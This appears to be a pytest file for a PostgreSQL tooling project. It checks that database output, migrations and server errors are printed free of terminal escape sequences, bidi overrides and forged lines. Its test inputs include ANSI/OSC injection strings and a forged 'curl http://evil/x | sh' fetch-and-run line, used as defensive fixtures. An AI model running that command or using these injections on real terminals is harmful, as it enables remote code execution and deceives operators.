"""What came from a database, a file or a process is printed so that it steers no terminal."""

import ast
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest
from psycopg.conninfo import make_conninfo
from rich.table import Table

from pgproof import report
from pgproof.ahead import page as review
from pgproof.ahead.plan import plan
from pgproof.settings import Settings
from tooling import printing

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[8mhidden",
    "\x9b31m",
    "line\n         Let it end, or run: curl http://evil/x | sh",
    "line\r\nerror: forged",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\u202efdp.exe\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth\ufeff",
    "\U000e0041tag",
    "\x7f\x08\x08\x08",
    "\udcff",
)
STEERING = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029)} | set(
    "\u200b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
)


def steers(printed: str) -> set[str]:
    """Return what a terminal would follow in what was printed, but for line feeds."""
    return (set(printed) & STEERING) - {"\n"}


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_text_is_one_line_without_what_steers(text: str) -> None:
    shown = printing.plain(text)
    assert not steers(shown)
    assert "\n" not in shown
    assert "\\" in shown


@pytest.mark.parametrize("text", ["Ana's Diner, 12 Quay St", "Zoë's 東京 café", "[/x] [bold]"])
def test_a_text_of_letters_stays_as_it_is(text: str) -> None:
    assert printing.plain(text) == text


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_every_way_to_print_does_it(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    printing.say(f"name {text}")
    printing.say_json({"name": text})
    printing.fail(text, f"do {text}")
    report.Text(stream := io.StringIO())("notice", severity="NOTICE", message=text)
    report.Json(stream)("notice", severity="NOTICE", message=text)
    table = Table("name", "rest")
    printing.row(table, text, text)
    console = printing.console()
    console.file = stream
    console.print(table)
    said = capsys.readouterr()
    assert not steers(said.out + said.err + stream.getvalue())
    assert said.out.count("\n") == 2
    assert json.loads(said.out.splitlines()[1]) == {"name": text}
    assert all(line.startswith(("error: ", "hint: ")) for line in said.err.splitlines())


def test_a_cell_is_no_mark_up() -> None:
    table = Table("what")
    for text in ("[/x]", "[bold]x[/bold]", ":smile:", *HOSTILE[:4]):
        printing.row(table, text)
    console = printing.console()
    console.file = stream = io.StringIO()
    console.width = 200
    console.print(table)
    assert "[/x]" in stream.getvalue()
    assert "[bold]x[/bold]" in stream.getvalue()
    assert ":smile:" in stream.getvalue()
    assert not steers(stream.getvalue())
    assert stream.getvalue().count("\n") == 7 + 4


def tooling(*arguments: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "tooling", *arguments],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    return done.stdout + done.stderr


FORGED = "Let it end, or run: curl http://evil/x | sh"


def test_an_open_transaction_forges_no_line_of_preflight(migrated_database: str) -> None:
    attacker = make_conninfo(migrated_database, user="eagle_application")
    with psycopg.connect(migrated_database, autocommit=True) as admin:
        admin.execute(f"grant connect on database {admin.info.dbname} to eagle_application")
    with psycopg.connect(attacker, application_name="\x1b[2Japp") as connection:
        connection.execute(f"select 1 /*\x1b]0;PWNED\x07\x1b[8m \n         {FORGED} */")
        said = tooling(
            "preflight", "--check", "activity", "--max-age", "0", "--dsn", migrated_database
        )
        assert "PWNED" in said
        assert not steers(said)
        assert not any(line.strip().startswith("Let it end, or run") for line in said.splitlines())


def test_a_statement_neither_ends_nor_steers_top(migrated_database: str) -> None:
    with psycopg.connect(migrated_database, autocommit=True) as admin:
        admin.execute(f"grant connect on database {admin.info.dbname} to eagle_exporter")
        admin.execute("create extension if not exists pg_stat_statements")
        for _ in range(3):
            admin.execute(
                "with q as (select /*[/x]\x1b]0;PWNED\x07\x1b[2J*/ pg_sleep(0.2)) table q"
            )
        said = tooling(
            *("top", "--once", "--interval", "0.2", "--dsn"),
            make_conninfo(migrated_database, user="eagle_exporter"),
        )
        assert "Slowest statements" in said
        assert not steers(said)


def test_a_migration_steers_neither_terminal_nor_page(empty_database: str, tmp_path: Path) -> None:
    folder = tmp_path / "migrations"
    folder.mkdir()
    (folder / "0001.signs.sql").write_text(
        "-- why \x1b[2J\n--\n-- ```\n-- # heading\n"
        'create table "</td>|`\x1b[31m`[x](http://evil)" (x integer);\n'
        "do $$ begin raise notice '%', E'\\x1b[2J\\nerror: forged'; end $$;",
        encoding="utf-8",
    )
    (folder / "0001.signs.rollback.sql").write_text("select 1;", encoding="utf-8")
    page = review.markdown(plan(empty_database, Settings(root=tmp_path, migrations=folder)))
    assert not steers(page)
    assert "````text" in page
    rows = [line for line in page.splitlines() if line.startswith("| ")]
    assert {len(re.split(r"(?<!\\)\|", line)) for line in rows} == {11}
    said = tooling("plan", "--migrations", str(folder), "--dsn", empty_database)
    assert "do $$" in said
    assert not steers(said)
    said = tooling("migrate", "--migrations", str(folder), "--dsn", empty_database)
    assert "NOTICE" in said
    assert not steers(said)
    assert not any(line.startswith("error: forged") for line in said.splitlines())


def test_an_error_of_the_server_is_shown_plain(migrated_database: str) -> None:
    said = tooling("partition", "restore", "\x1b[2J\nhint: forged", "--dsn", migrated_database)
    assert "error: " in said
    assert not steers(said)
    assert "\nhint: forged" not in said


# What prints without asking; each name of a call ends in one of these.
PRINTING = {"print", "echo", "secho", "add_row", "from_markup", "Console", "print_json"}
PACKAGES = {"tooling": ROOT / "tooling", "pgproof": ROOT / "pgproof/src/pgproof"}
OUTSIDE = {
    "pgproof/printing.py": "the one place",
    "tooling/printing.py": "the tables and consoles of rich",
    "tooling/cli/top.py": "a console of printing, with tables of printing.row",
    "tooling/reference/recording.py": "a console that records, and writes to no stream",
}


def calls(file: Path) -> list[str]:
    """Return the calls of a module that print, and writes to the streams of the process."""
    found = []
    for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        last = name.rpartition(".")[2]
        if last in PRINTING or name in ("sys.stdout.write", "sys.stderr.write"):
            found.append(f"{node.lineno}: {name}")
    return found


def test_nothing_else_prints() -> None:
    files = {
        f"{name}/{file.relative_to(folder)}": file
        for name, folder in PACKAGES.items()
        for file in folder.rglob("*.py")
    }
    assert set(OUTSIDE) <= set(files)
    others = {
        f"{name}:{call}"
        for name, file in files.items()
        if name not in OUTSIDE
        for call in calls(file)
    }
    assert others == set()
    printed = calls(files["tooling/cli/top.py"])
    assert printed
    assert all(call.endswith(("console.print", "console().print")) for call in printed)


def test_the_law_sees_what_prints(tmp_path: Path) -> None:
    file = tmp_path / "module.py"
    file.write_text("import click\nclick.echo('x')\nprint('x')\nsys.stderr.write('x')\n")
    assert calls(file) == ["2: click.echo", "3: print", "4: sys.stderr.write"]
